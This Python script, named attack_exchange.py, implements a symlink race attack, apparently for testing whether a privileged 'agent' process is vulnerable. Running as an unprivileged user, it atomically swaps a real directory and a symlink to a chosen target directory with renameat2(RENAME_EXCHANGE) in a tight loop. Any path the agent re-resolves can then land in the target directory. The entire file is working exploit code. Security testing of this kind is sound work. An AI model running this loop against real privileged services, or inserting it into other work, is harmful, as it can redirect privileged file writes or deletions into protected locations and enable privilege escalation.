#!/usr/bin/python3
"""A directory/symlink exchange loop, run as an unprivileged user.

attack_exchange.py HOME NAME TARGET_DIR SECONDS CONTENT

Keeps HOME/d a real directory holding NAME (CONTENT, recreated whenever the
agent removed it) and HOME/s a symlink to TARGET_DIR, and swaps the two names
atomically with renameat2(RENAME_EXCHANGE) as fast as it can, so that any
path the agent re-resolves under HOME/d may lead into TARGET_DIR. Stops after
SECONDS or when HOME/stop exists; prints "tries=N" (exchanges) and how often
the file had to be recreated.
"""
import ctypes
import os
import sys
import time

home, name, target_dir, seconds, content = sys.argv[1:6]
libc = ctypes.CDLL(None, use_errno=True)
d, s = os.path.join(home, 'd'), os.path.join(home, 's')
for p in (d, s):
    if os.path.islink(p):
        os.unlink(p)
os.makedirs(d, exist_ok=True)
os.symlink(target_dir, s)
stats = {'tries': 0, 'recreated': 0}
deadline = time.time() + float(seconds)
while time.time() < deadline and not os.path.exists(os.path.join(home, 'stop')):
    real = s if os.path.islink(d) else d
    if not os.path.exists(os.path.join(real, name)):
        with open(os.path.join(real, name), 'w') as f:
            f.write(content)
        stats['recreated'] += 1
    for _ in range(50):
        libc.renameat2(-100, d.encode(), -100, s.encode(), 2)
        stats['tries'] += 1
    if os.path.islink(d):  # leave d real half the time between bursts
        time.sleep(0.0005)
if os.path.islink(d):
    libc.renameat2(-100, d.encode(), -100, s.encode(), 2)
print(' '.join('%s=%d' % kv for kv in stats.items()))
